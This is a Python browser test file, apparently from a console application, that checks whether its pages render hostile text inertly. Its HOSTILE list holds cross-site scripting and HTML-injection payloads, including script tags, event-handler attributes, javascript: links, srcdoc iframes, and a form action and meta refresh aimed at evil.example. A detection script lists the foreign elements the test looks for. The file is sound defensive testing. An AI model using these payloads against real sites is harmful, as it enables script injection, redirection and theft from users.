"""What servers, models, clients and issuers say, in a real browser: it shows, and does nothing.

Every text of the corpus stands at once wherever somebody else's text can stand, on every page that
there is. A browser that made an element of any of it would run a script, ask another machine, or
report that the content policy has stopped it; each of the three fails the test.
"""

from collections.abc import AsyncGenerator
from urllib.parse import quote

import pytest
from playwright.async_api import Browser, Dialog
from tests.console.conftest import Bench
from tests.console.site import Site, all_pages, logged_in, serve_site
from tests.console.test_hostile import CORPUS

from sayso.console.entry.roles import Role

pytestmark = pytest.mark.anyio

CANARY = "window.canary=1"
HOSTILE = [
    *CORPUS,
    f"<script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f'"><svg/onload="{CANARY}">',
    f"'><details open ontoggle={CANARY}>",
    f"</script><script>{CANARY}</script>",
    f"</style><script>{CANARY}</script>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    f'<a href="javascript:{CANARY}" id=main>x</a>',
    f"<div hx-get=/console/logout hx-trigger=load hx-on:load={CANARY}>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<form id=forms name=body action=//evil.example><input name=csrf>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f'"onfocus="{CANARY}"autofocus="',
    f"`-{CANARY}-`",
    f"${{{CANARY}}}",
    "<dialog open><form method=dialog><button>Allow</button></form></dialog>",
    '<template><script>1</script></template><noscript><p title="</noscript><img src=x>">',
]
ASKED = ("q", "server", "tool", "level", "subject", "client", "text", "answered", "late", "to")
"""Parameters of pages, now or one day: what is said in one is shown as text, or not at all."""


@pytest.fixture
def server_name() -> str:
    return f"studio{HOSTILE[1]}"


@pytest.fixture
async def site(bench: Bench) -> AsyncGenerator[Site]:
    """A console that has nothing but hostile text in it."""
    whole = " ".join(HOSTILE)
    bench.shelf.raws[0] |= {"title": whole, "description": whole}
    bench.shelf.raws += [
        {
            "name": f"tool {text}",
            "title": text,
            "description": text,
            "inputSchema": {
                "type": "object",
                "description": text,
                "properties": {text: {"type": "string", "title": text, "description": text}},
            },
            "annotations": {"destructiveHint": True, "title": text},
        }
        for text in HOSTILE
    ]
    bench.answer = {
        "content": [{"type": "text", "text": whole}],
        "structuredContent": {whole: whole},
    }
    delete = f"{bench.shelf.name}__customer_delete"
    for text in HOSTILE:
        arguments = {text: text, "nested": {text: [text]}, "long": text * 50}
        await bench.call(delete, arguments, client=text, subject=text)
        await bench.call(f"{bench.shelf.name}__customers_list", arguments, client=text)
        await bench.call(f"{bench.shelf.name}__tool {text}", {text: text}, client=text)
    async with serve_site(bench.gateway, bench.clock) as site:
        yield site


async def test_nothing_that_others_say_runs_leads_away_or_leaves_its_element(
    chromium: Browser, site: Site
) -> None:
    dialogs: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    async with logged_in(chromium, site, Role.ADMIN, person=HOSTILE[-5]) as watched:
        page = watched.page
        page.on("dialog", dismiss)
        for path in await all_pages(site, person=HOSTILE[-5]):
            await page.goto(f"{site.base}{path}", wait_until="load")
            assert page.url == f"{site.base}{path}"
            assert await page.evaluate("window.canary") is None, path
            assert await page.evaluate(FOREIGN) == [], path
            assert watched.wrong == [], path
    assert dialogs == []


async def test_what_stands_in_an_address_is_text(chromium: Browser, site: Site) -> None:
    said = "&".join(f"{name}={quote(' '.join(HOSTILE))[:1000]}" for name in ASKED)
    plain = [path for path in site.paths if "{" not in path and "/events" not in path]
    doors = [path for path in plain if path.endswith(("/login", "/link"))]
    assert doors
    async with (
        logged_in(chromium, site) as watched,
        logged_in(chromium, site, role=None) as visitor,
    ):
        for one, paths in ((watched, plain), (visitor, doors)):
            for path in paths:
                await one.page.goto(f"{site.base}{path}?token=x&{said}", wait_until="load")
                assert await one.page.evaluate("window.canary") is None, path
                assert await one.page.evaluate(FOREIGN) == [], path
                assert one.wrong == [], path


FOREIGN = """
[...document.querySelectorAll("*")].filter(one =>
  [...one.attributes].some(({name, value}) =>
    name.startsWith("on") || name.startsWith("hx-on") || name === "srcdoc" ||
    (["href", "src", "action", "formaction", "data", "poster", "ping"].includes(name) &&
      new URL(value, location.origin).origin !== location.origin) ||
    (name === "http-equiv" && value !== "refresh"))
  || ["IFRAME", "OBJECT", "EMBED", "BASE", "STYLE", "TEMPLATE"].includes(one.tagName)
  || (one.tagName === "SCRIPT" && !one.getAttribute("src")?.startsWith("/console/static/"))
).map(one => one.outerHTML.slice(0, 200))
"""
"""The elements of a page that none of its templates can have made, and those that lead away."""
